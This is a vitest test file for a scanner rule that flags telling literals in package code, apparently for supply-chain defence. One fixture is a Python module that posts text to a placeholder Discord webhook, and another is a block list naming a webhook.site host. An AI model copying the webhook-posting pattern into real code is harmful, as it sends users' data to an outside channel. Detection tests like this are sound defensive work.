import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './telling-literal.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('warns of a chat webhook', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import requests\nHOOK = 'https://discord.com/api/webhooks/1/x'\n\ndef report(text):\n    requests.post(HOOK, json={'content': text})\n",
    }),
  ).toEqual([['warn', 'demo/__init__.py', 2, false]])
})

it('leaves a list of hosts that nothing calls', async () => {
  expect(
    await find({
      'demo/__init__.py': "BLOCKED = ['https://abc.webhook.site']\n",
    }),
  ).toEqual([])
})
